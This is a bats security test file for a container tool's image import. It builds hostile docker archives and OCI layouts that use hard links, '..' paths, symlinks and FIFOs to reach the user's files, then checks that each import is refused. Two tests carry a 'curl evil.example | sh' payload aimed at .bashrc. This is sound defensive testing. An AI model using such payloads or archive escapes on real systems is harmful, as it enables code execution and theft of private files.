#!/usr/bin/env bats
# run-hostile.bats - image files from strangers cannot reach the host.
#
# Each test hands `sublet image import` a crafted docker archive or OCI
# layout, as the unprivileged test user, and checks that the import is
# refused with one line naming what was wrong, and that the user's own
# files ($UTMP/home, which stands for the home directory) are exactly as
# they were: no file written, and no private file read into a layer.

load ../lib
load ../run
bats_require_minimum_version 1.5.0

run_hooks

# docker_archive OUT MANIFEST_ENTRY EXTRA... - write a docker archive OUT
# holding a valid one-file layer `l.tar` (its diff_id in the config
# c.json), manifest.json with MANIFEST_ENTRY (JSON, "@L" replaced by the
# layer's name), and the EXTRA entries, each a JSON object {name, type
# (file, dir, symlink, hardlink, fifo, chr), data, link}
docker_archive() {
	python3 - "$@" <<'PY'
import hashlib, io, json, sys, tarfile
out, entry, extra = sys.argv[1], sys.argv[2], sys.argv[3:]
def member(t, name, kind="file", data=b"", link=""):
    i = tarfile.TarInfo(name)
    i.type = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE,
              "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE,
              "fifo": tarfile.FIFOTYPE, "chr": tarfile.CHRTYPE}[kind]
    i.linkname = link
    i.size = len(data)
    i.mode = 0o755 if kind == "dir" else 0o644
    if kind == "hardlink" and data:
        i.pax_headers = {"size": str(len(data))}  # a link that carries data
    t.addfile(i, io.BytesIO(data) if data else None)
layer = io.BytesIO()
with tarfile.open(fileobj=layer, mode="w") as l:
    member(l, "hello", data=b"hi\n")
layer = layer.getvalue()
diff = hashlib.sha256(layer).hexdigest()
cfg = json.dumps({"rootfs": {"type": "layers", "diff_ids": ["sha256:" + diff]},
                  "config": {"Cmd": ["sh"]}}).encode()
with tarfile.open(out, "w", format=tarfile.PAX_FORMAT) as t:
    for x in extra:
        x = json.loads(x)
        member(t, x["name"], x.get("type", "file"),
               x.get("data", "").encode(), x.get("link", ""))
    member(t, "manifest.json", data=entry.encode())
    member(t, "c.json", data=cfg)
    member(t, "l.tar", data=layer)
PY
	chown "$(test_uid):$(test_gid)" "$1"
}

# layer_image DIR NAME - import busybox with DIR on top (a tar of it, as
# root's files) as image NAME, as the test user
layer_image() {
	tar -C "$1" --numeric-owner --owner=0 --group=0 -cf "$1.tar" .
	chown -R "$(test_uid):$(test_gid)" "$1" "$1.tar"
	oci_add_layer "$RUN_IMAGE_DIR/busybox" "$UTMP/$2" "$1.tar" \
		application/vnd.oci.image.layer.v1.tar
	sl image import --name "$2" "$UTMP/$2" >/dev/null
}

# home_setup - the user's files an attacker is after
home_setup() {
	as_user mkdir -p "$UTMP/home"
	as_user sh -c "echo 'alias ls=ls' >$UTMP/home/.bashrc"
	as_user sh -c "echo secret >$UTMP/home/private.txt &&
		tar -C $UTMP/home -cf $UTMP/home/private.tar private.txt &&
		chmod 0600 $UTMP/home/private.txt $UTMP/home/private.tar"
	HOME_SUM=$(home_sum)
}

# home_sum - names, modes and contents of every file under $UTMP/home
home_sum() {
	(cd "$UTMP/home" && find . -printf '%p %m %s %n\n' | sort &&
		find . -type f -exec sha256sum {} + | sort)
}

# import_refused WANT FILE - import FILE from $UTMP/home (relative links
# resolve there), expect exit 1 with exactly the message WANT, no image,
# no layer, and the home directory unchanged
import_refused() {
	run as_user timeout 30 sh -c "cd $UTMP/home && exec sublet image import --name bad $2"
	echo "$output"
	[ "$status" -eq 1 ]
	[ "$output" = "sublet: image import: $1" ]
	[ "$(home_sum)" = "$HOME_SUM" ]
	run sl image ls -q
	! grep -qx bad <<<"$output" || false
	[ -z "$(ls -A "$UTMP/data/sublet/tmp")" ]
}

setup() {
	run_setup
	import_busybox
	home_setup
}

@test "hostile docker archive: a hard link with data to a user's file (absolute)" {
	docker_archive "$UTMP/a.tar" '[{"Config":"c.json","Layers":["l.tar"]}]' \
		"{\"name\":\"x\",\"type\":\"hardlink\",\"link\":\"$UTMP/home/.bashrc\",\"data\":\"curl evil.example | sh\\n\"}"
	import_refused "docker archive: entry \`x\`: hard links are not allowed (to \`$UTMP/home/.bashrc\`)" "$UTMP/a.tar"
}

@test "hostile docker archive: a hard link with data to a user's file (relative)" {
	docker_archive "$UTMP/a.tar" '[{"Config":"c.json","Layers":["l.tar"]}]' \
		'{"name":"x","type":"hardlink","link":".bashrc","data":"curl evil.example | sh\n"}'
	import_refused "docker archive: entry \`x\`: hard links are not allowed (to \`.bashrc\`)" "$UTMP/a.tar"
}

@test "hostile docker archive: absolute and .. entry names, devices and FIFOs" {
	docker_archive "$UTMP/a.tar" '[{"Config":"c.json","Layers":["l.tar"]}]' \
		"{\"name\":\"$UTMP/home/.bashrc\",\"data\":\"owned\\n\"}"
	import_refused "docker archive: entry \`$UTMP/home/.bashrc\`: unsafe path (absolute or with \`..\`)" "$UTMP/a.tar"
	docker_archive "$UTMP/b.tar" '[{"Config":"c.json","Layers":["l.tar"]}]' \
		'{"name":"../../x","data":"owned\n"}'
	import_refused "docker archive: entry \`../../x\`: unsafe path (absolute or with \`..\`)" "$UTMP/b.tar"
	docker_archive "$UTMP/c.tar" '[{"Config":"c.json","Layers":["l.tar"]}]' \
		'{"name":"fifo","type":"fifo"}'
	import_refused "docker archive: entry \`fifo\`: only files, directories and symlinks are allowed" "$UTMP/c.tar"
	docker_archive "$UTMP/d.tar" '[{"Config":"c.json","Layers":["l.tar"]}]' \
		'{"name":"null","type":"chr"}'
	import_refused "docker archive: entry \`null\`: only files, directories and symlinks are allowed" "$UTMP/d.tar"
}

@test "hostile docker archive: layers and config named outside the archive" {
	docker_archive "$UTMP/a.tar" "[{\"Config\":\"c.json\",\"Layers\":[\"$UTMP/home/private.tar\"]}]"
	import_refused "layer \`$UTMP/home/private.tar\`: outside the image (an absolute path, \`..\` or a symlink out of it)" "$UTMP/a.tar"
	docker_archive "$UTMP/b.tar" '[{"Config":"c.json","Layers":["../../../home/private.tar"]}]'
	import_refused "layer \`../../../home/private.tar\`: outside the image (an absolute path, \`..\` or a symlink out of it)" "$UTMP/b.tar"
	docker_archive "$UTMP/c.tar" '[{"Config":"/etc/passwd","Layers":["l.tar"]}]'
	import_refused "image file \`/etc/passwd\`: outside the image (an absolute path, \`..\` or a symlink out of it)" "$UTMP/c.tar"
	# a device as a layer: refused at once, not read forever
	docker_archive "$UTMP/d.tar" '[{"Config":"c.json","Layers":["/dev/zero"]}]'
	import_refused "layer \`/dev/zero\`: outside the image (an absolute path, \`..\` or a symlink out of it)" "$UTMP/d.tar"
}

@test "hostile docker archive: a symlink out of the archive named as a layer" {
	docker_archive "$UTMP/a.tar" '[{"Config":"c.json","Layers":["evil.tar"]}]' \
		"{\"name\":\"evil.tar\",\"type\":\"symlink\",\"link\":\"$UTMP/home/private.tar\"}"
	import_refused "layer \`evil.tar\`: outside the image (an absolute path, \`..\` or a symlink out of it)" "$UTMP/a.tar"
	docker_archive "$UTMP/b.tar" '[{"Config":"c.json","Layers":["evil.tar"]}]' \
		'{"name":"evil.tar","type":"symlink","link":"../../../home/private.tar"}'
	import_refused "layer \`evil.tar\`: outside the image (an absolute path, \`..\` or a symlink out of it)" "$UTMP/b.tar"
	# and an entry written through a symlink of the archive
	docker_archive "$UTMP/c.tar" '[{"Config":"c.json","Layers":["l.tar"]}]' \
		"{\"name\":\"d\",\"type\":\"symlink\",\"link\":\"$UTMP/home\"}" \
		'{"name":"d/.bashrc","data":"owned\n"}'
	run as_user timeout 30 sublet image import --name bad "$UTMP/c.tar"
	[ "$status" -eq 1 ]
	[ "${#lines[@]}" -eq 1 ]
	[ "$(home_sum)" = "$HOME_SUM" ]
}

@test "hostile docker archive: a layer without a diff_id is refused" {
	docker_archive "$UTMP/a.tar" '[{"Config":"c.json","Layers":["l.tar","l.tar"]}]'
	import_refused "layer \`l.tar\`: no diff_id for it in the image config (rootfs.diff_ids)" "$UTMP/a.tar"
}

@test "docker archive: a symlink to a layer inside the archive still imports" {
	# docker save links a layer two images share
	docker_archive "$UTMP/a.tar" '[{"Config":"c.json","Layers":["dup/layer.tar"],"RepoTags":["dup:1"]}]' \
		'{"name":"dup","type":"dir"}' \
		'{"name":"dup/layer.tar","type":"symlink","link":"../l.tar"}'
	run as_user sublet image import "$UTMP/a.tar"
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$output" = dup:1 ]
	[ "$(cat "$UTMP"/data/sublet/layers/*/diff/hello)" = hi ]
	[ "$(home_sum)" = "$HOME_SUM" ]
}

@test "hostile OCI layout: a blob that is a symlink out of the layout" {
	as_user cp -r "$RUN_IMAGE_DIR/busybox" "$UTMP/oci"
	as_user chmod -R u+w "$UTMP/oci"
	m=$(jq -r '.manifests[0].digest' "$UTMP/oci/index.json" | cut -d: -f2)
	l=$(jq -r '.layers[0].digest' "$UTMP/oci/blobs/sha256/$m" | cut -d: -f2)
	as_user rm "$UTMP/oci/blobs/sha256/$l"
	as_user ln -s "$UTMP/home/private.tar" "$UTMP/oci/blobs/sha256/$l"
	import_refused "layer \`blobs/sha256/$l\`: outside the image (an absolute path, \`..\` or a symlink out of it)" "$UTMP/oci"
	# a FIFO in its place: refused, not waited on
	as_user rm "$UTMP/oci/blobs/sha256/$l"
	as_user mkfifo "$UTMP/oci/blobs/sha256/$l"
	HOME_SUM=$(home_sum)
	import_refused "layer \`blobs/sha256/$l\`: not a regular file" "$UTMP/oci"
}

@test "hostile image: --user NAME reads the image's passwd, never a host file or a FIFO" {
	# a host file an image links to, holding a user the image lacks
	as_user sh -c "echo 'hostonly:x:77:77::/:/bin/sh' >$UTMP/home/pw"
	HOME_SUM=$(home_sum)
	mkdir -p "$UTMP/l2/etc"
	ln -s "$UTMP/home/pw" "$UTMP/l2/etc/passwd"
	layer_image "$UTMP/l2" linked
	run sl run --rm --net none --user hostonly linked id -u
	echo "$output"
	[ "$status" -eq 125 ]
	[ "$output" = "sublet: user \`hostonly\` not found in the image's /etc/passwd: use a numeric --user UID" ]
	# a FIFO in its place is no entry either, and does not hang
	rm -rf "$UTMP/l2" "$UTMP/l2.tar"
	mkdir -p "$UTMP/l2/etc"
	mkfifo "$UTMP/l2/etc/passwd"
	layer_image "$UTMP/l2" fifo
	run as_user timeout 30 sublet run --rm --net none --user root fifo id -u
	echo "$output"
	[ "$status" -eq 125 ]
	[ "$output" = "sublet: user \`root\` not found in the image's /etc/passwd: use a numeric --user UID" ]
	[ "$(home_sum)" = "$HOME_SUM" ]
}

@test "hostile image: /etc a symlink to a host directory; -v and /etc/hosts stay inside" {
	mkdir -p "$UTMP/l3"
	ln -s "$UTMP/home/escaped" "$UTMP/l3/etc"
	layer_image "$UTMP/l3" etclink
	as_user mkdir "$UTMP/vol"
	as_user sh -c "echo from-volume >$UTMP/vol/file"
	for drv in kernel fuse; do
		run sl run --rm --net none --storage-driver $drv -v "$UTMP/vol:/etc/deep/dir" \
			etclink sh -c 'cat /etc/deep/dir/file; cat /etc/hostname'
		echo "$drv: $output"
		[ "$status" -eq 0 ]
		[ "${lines[0]}" = from-volume ]
		[ -n "${lines[1]}" ]
		[ ! -e "$UTMP/home/escaped" ]
		[ "$(home_sum)" = "$HOME_SUM" ]
	done
}
